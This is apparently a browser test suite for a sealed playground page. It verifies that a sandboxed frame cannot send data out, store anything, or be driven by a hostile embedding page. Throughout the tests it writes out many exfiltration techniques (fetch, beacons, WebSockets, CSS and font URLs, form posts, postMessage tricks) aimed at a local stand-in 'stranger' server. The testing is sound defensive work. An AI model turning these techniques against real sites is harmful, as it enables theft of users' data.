import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
import { eventually, pageFile } from './browser.ts'
import { exampleKeys } from './keys.ts'
import { describePage } from './session.ts'

/** Somebody who would like to have the keys: every request that comes is a failure. */
const received: string[] = []
const stranger = createServer((request, response) => {
  received.push(`${request.method} ${request.url}`)
  response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
})
/** A store that sends its clients on to the stranger. */
const asked: string[] = []
const redirecting = createServer((request, response) => {
  asked.push(`${request.url}`)
  const cors = {
    'access-control-allow-origin': '*',
    'access-control-allow-methods': '*',
    'access-control-allow-headers': '*',
  }
  if (request.method === 'OPTIONS' || request.method === 'HEAD') response.writeHead(204, cors).end()
  else response.writeHead(307, { ...cors, location: `${originOf(stranger)}${request.url}` }).end()
})
const originOf = (server: typeof stranger) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`
beforeAll(async () => {
  for (const server of [stranger, redirecting]) await once(server.listen(0, '127.0.0.1'), 'listening')
})
afterAll(() => {
  for (const server of [stranger, redirecting]) {
    server.closeAllConnections()
    server.close()
  }
})

/** Where an attempt would arrive. */
const addressFor = (way: string) => `${originOf(stranger)}/${way.replaceAll(' ', '-')}`

/** What a script in the sealed frame could try, if one could get there. Each says how it ended. */
const attempts = {
  fetch: (to: string) =>
    fetch(to).then(
      () => 'sent',
      () => 'refused',
    ),
  XMLHttpRequest: (to: string) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve('sent')
      request.onerror = () => resolve('refused')
      request.open('POST', to)
      request.send('secret')
    }),
  beacon: (to: string) => void navigator.sendBeacon(to, 'secret'),
  WebSocket: (to: string) => {
    try {
      new WebSocket(to.replace('http', 'ws'))
    } catch {}
  },
  EventSource: (to: string) => void new EventSource(to),
  image: (to: string) => {
    new Image().src = to
  },
  style: (to: string) => {
    document.body.setAttribute('style', `background: url(${to})`)
    document.body.style.backgroundImage = `url(${to})`
  },
  script: (to: string) => void document.head.append(Object.assign(document.createElement('script'), { src: to })),
  stylesheet: (to: string) =>
    void document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to })),
  prefetch: (to: string) =>
    void document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to })),
  // It may be connected to, and be asked for nothing.
  preconnect: (to: string) =>
    void document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: to })),
  'speculation rules': (to: string) => {
    const textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] })
    document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent }))
  },
  'module script': (to: string) =>
    void document.head.append(Object.assign(document.createElement('script'), { type: 'module', src: to })),
  font: (to: string) => {
    const [sheet] = document.styleSheets
    sheet!.insertRule(`@font-face { font-family: stranger; src: url(${to}) }`)
    sheet!.insertRule('body { font-family: stranger }', 1)
  },
  media: (to: string) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<video src="${to}" poster="${to}"></video><svg><use href="${to}#a"/><image href="${to}"/></svg><embed src="${to}">`,
    )
  },
  'frame of a blob': (to: string) => {
    const page = new Blob([`<img src="${to}"><meta http-equiv="refresh" content="0;url=${to}">`], { type: 'text/html' })
    document.body.append(Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(page) }))
  },
  'frame of its own': (to: string) => {
    const srcdoc = `<img src="${to}"><script>fetch("${to}")</script>`
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }))
  },
  frame: (to: string) => void document.body.append(Object.assign(document.createElement('iframe'), { src: to })),
  object: (to: string) => void document.body.append(Object.assign(document.createElement('object'), { data: to })),
  worker: (to: string) => {
    try {
      new Worker(`data:text/javascript,fetch(${JSON.stringify(to)})`)
    } catch {}
  },
  'pop-up': (to: string) => {
    try {
      window.open(to)
    } catch {}
  },
  'navigation of the top': (to: string) => {
    try {
      top!.location.href = to
    } catch {}
  },
  'inline script': (to: string) => {
    document.body.append(Object.assign(document.createElement('script'), { textContent: `fetch('${to}')` }))
  },
  evaluation: (to: string) => {
    try {
      new Function('to', 'fetch(to)')(to)
    } catch {}
  },
  'the page around': (to: string) => {
    try {
      ;(parent as unknown as { fetch(to: string): void }).fetch(to)
    } catch {}
  },
}

/** The same of what may leave nothing of the frame, so that each needs a page of its own. */
const departures = {
  form: (to: string) => {
    const form = Object.assign(document.createElement('form'), { action: to, method: 'post' })
    document.body.append(form)
    form.submit()
  },
  download: (to: string) => {
    const link = Object.assign(document.createElement('a'), { href: to, download: 'x' })
    document.body.append(link)
    link.click()
  },
  'link that tells': (to: string) => {
    const link = Object.assign(document.createElement('a'), { href: to, ping: to })
    document.body.append(link)
    link.click()
  },
  'link to the top': (to: string) => {
    const link = Object.assign(document.createElement('a'), { href: to, target: '_top' })
    document.body.append(link)
    link.click()
  },
  navigation: (to: string) => {
    location.href = to
  },
  refresh: (to: string) => {
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${to}` }),
    )
  },
  'frame that goes on': (to: string) => {
    const srcdoc = `<meta http-equiv="refresh" content="0;url=${to}">`
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }))
  },
}

describePage((session) => {
  beforeEach(() => {
    received.length = 0
  })

  /** Waits until what was tried would have come, and sees that it has not. */
  const settled = async () => {
    await new Promise((resolve) => setTimeout(resolve, 500))
    expect(received).toEqual([])
    expect(session.visited.page.url()).toBe(session.url)
  }

  it('is sealed: nothing that a script could try sends anything', async () => {
    // What is refused may still be told of as a request.
    session.allow(originOf(stranger))
    session.allow(originOf(stranger).replace('http', 'ws'))
    await session.visited.press('Fill in an example')
    for (const [way, attempt] of Object.entries(attempts)) {
      const outcome = await session.visited.frame.evaluate(attempt as (to: string) => unknown, addressFor(way))
      expect(outcome ?? 'refused', way).toBe('refused')
    }
    await settled()
  })

  it.each(Object.entries(departures))('is sealed: a %s sends nothing', async (way, attempt) => {
    session.allow(originOf(stranger))
    // A frame that is gone tells no more.
    await session.visited.frame.evaluate(attempt, addressFor(way)).catch(() => {})
    await settled()
  })

  it('can keep nothing: the frame has no storage of any kind', async () => {
    const kept = await session.visited.frame.evaluate(async () => {
      const tries: Record<string, () => unknown> = {
        localStorage: () => localStorage.setItem('a', 'b'),
        sessionStorage: () => sessionStorage.setItem('a', 'b'),
        cookie: () => {
          // biome-ignore lint/suspicious/noDocumentCookie: no store of cookies is to be had
          document.cookie = 'a=b'
        },
        indexedDB: () =>
          new Promise((resolve, reject) => {
            const request = indexedDB.open('a')
            request.onsuccess = resolve
            request.onerror = reject
          }),
        caches: () => caches.open('a'),
      }
      const kept: string[] = []
      for (const [name, store] of Object.entries(tries)) {
        try {
          await store()
          kept.push(name)
        } catch {}
      }
      return kept
    })
    expect(kept).toEqual([])
  })

  it('lets a request go to its store alone, whatever the store says', async () => {
    session.allow(originOf(redirecting))
    session.allow(originOf(stranger))
    await session.fillServer(originOf(redirecting), 'bucket', exampleKeys)
    await session.visited.fill('Key', 'a')
    await session.visited.press('Send GET')
    await session.visited.see('.outcome', /redirected to another host, and this page sends nothing there/)
    expect(received).toEqual([])
  })

  it('lets a sender be told by the page around alone', async () => {
    session.allow(originOf(redirecting))
    session.allow(originOf(stranger))
    await session.fillServer(originOf(redirecting), 'bucket', exampleKeys)
    await session.visited.fill('Key', 'a')
    // A sender that nobody has told anything yet, as each is for a moment.
    await session.visited.page.evaluate(() => {
      const observer = new MutationObserver(([added]) => {
        observer.disconnect()
        document.body.append(added!.addedNodes[0]!.cloneNode())
      })
      observer.observe(document.body, { childList: true })
    })
    await session.visited.press('Send GET')
    await session.visited.see('.outcome', /another host/)
    await session.visited.frame.evaluate(
      (to) => {
        for (let index = 0; index < parent.length; index++)
          parent[index]!.postMessage({ url: to, method: 'GET', headers: {} }, '*', [new MessageChannel().port2])
      },
      `${originOf(redirecting)}/told-by-another`,
    )
    await settled()
    expect(asked).toEqual(expect.arrayContaining([expect.stringMatching(/^\/bucket\/a\?/)]))
    expect(asked).not.toContain('/told-by-another')
  })

  it('knows nothing of what the sealed frame knows, in the page around', async () => {
    await session.visited.press('Fill in an example')
    await session.visited.see('.url', /X-Amz-Signature/)
    const around = await session.visited.page.evaluate(() => document.documentElement.outerHTML)
    expect(around).not.toContain('AKIAIOSFODNN7EXAMPLE%2F')
    const reached = await session.visited.page.evaluate(() => {
      try {
        return !!document.querySelector('iframe')!.contentWindow!.document
      } catch {
        return false
      }
    })
    expect(reached).toBe(false)
  })

  it('does not work inside another page, which could cover it', async () => {
    const embedder = createServer((_, response) => {
      response.writeHead(200, { 'content-type': 'text/html' })
      response.end(
        `<!doctype html><iframe srcdoc="${readFileSync(pageFile, 'utf8').replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`,
      )
    })
    await once(embedder.listen(0, '127.0.0.1'), 'listening')
    try {
      const page = await session.visited.page.browser().newPage()
      await page.goto(originOf(embedder))
      const frame = await eventually('the frame', async () => page.frames().find((one) => one !== page.mainFrame()))
      await eventually('the notice instead of the playground', async () =>
        /works only as a page of its own/.test(await frame.evaluate(() => document.body.textContent)),
      )
      expect(await frame.$('iframe')).toBe(null)
      await page.close()
    } finally {
      embedder.closeAllConnections()
      embedder.close()
    }
  })

  const embeddings = ['frame', 'sandbox', 'object', 'embed', 'window'] as const
  it.each(embeddings)('sends nothing for a hostile page that opens it in a %s', async (kind) => {
    const requested: string[] = []
    const host = createServer((request, response) => {
      requested.push(request.url!)
      response.writeHead(200, { 'content-type': 'text/html', 'set-cookie': 'session=victim; HttpOnly' })
      response.end(request.url === '/' ? readFileSync(pageFile) : 'private')
    })
    await once(host.listen(0, '127.0.0.1'), 'listening')
    const hostile = createServer((_, response) => {
      response.writeHead(200, { 'content-type': 'text/html' })
      response.end('<!doctype html><title>hostile</title>')
    })
    await once(hostile.listen(0, '127.0.0.1'), 'listening')
    const page = await session.visited.page.browser().newPage()
    try {
      // Of another site: in Chromium, a message from a removed frame has no source only if it comes from another process.
      await page.goto(originOf(hostile).replace('127.0.0.1', 'localhost'))
      const answers = page.evaluate(
        async (target, opens) => {
          const wait = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds))
          const elements = {
            frame: () => Object.assign(document.createElement('iframe'), { src: `${target}/` }),
            sandbox: () => {
              const frame = Object.assign(document.createElement('iframe'), { src: `${target}/` })
              frame.setAttribute('sandbox', 'allow-scripts allow-same-origin')
              return frame
            },
            object: () => Object.assign(document.createElement('object'), { data: `${target}/`, type: 'text/html' }),
            embed: () => Object.assign(document.createElement('embed'), { src: `${target}/`, type: 'text/html' }),
          }
          if (opens !== 'window') document.body.append(elements[opens]())
          const popup = opens === 'window' ? window.open(`${target}/`) : undefined
          while (!popup && window.length === 0) await wait(10)
          const victim = popup ?? window[0]!
          const answers: unknown[] = []
          /** Posts from this page, or from a frame that is removed before its message arrives, so that it has no source. */
          const post = (to: Window, request: object, removed: boolean) => {
            const { port1, port2 } = new MessageChannel()
            port1.onmessage = ({ data }) => answers.push(data)
            if (!removed) return to.postMessage(request, '*', [port2])
            Object.assign(globalThis, { to })
            const source = document.createElement('iframe')
            document.body.append(source)
            const evaluate = (source.contentWindow as unknown as typeof globalThis).eval
            const send = evaluate('(request, port) => parent.to.postMessage(request, "*", [port])') as (
              request: object,
              port: MessagePort,
            ) => void
            send(request, port2)
            source.remove()
          }
          // While it loads and afterwards, to the shell and to the frames in it.
          const request = { url: `${target}/private`, method: 'GET', headers: {} }
          for (let times = 0; times < 15; times++) {
            for (const removed of [false, true]) {
              post(victim, { send: request }, removed)
              post(victim, { hello: true }, removed)
              for (let index = 0; index < victim.length; index++) post(victim[index]!, request, removed)
            }
            await wait(100)
          }
          // Nobody else may navigate the sealed frame, and speak with its voice then.
          for (const to of ['about:blank', `${location.origin}/inner`])
            try {
              victim[0]!.location.href = to
              answers.push(`navigated to ${to}`)
            } catch {}
          await wait(500)
          return answers
        },
        originOf(host),
        kind,
      )
      expect(await answers).toEqual([])
      expect(requested).toContain('/')
      expect(requested).not.toContain('/private')
    } finally {
      await page.close()
      for (const server of [host, hostile]) {
        server.closeAllConnections()
        server.close()
      }
    }
  })
})
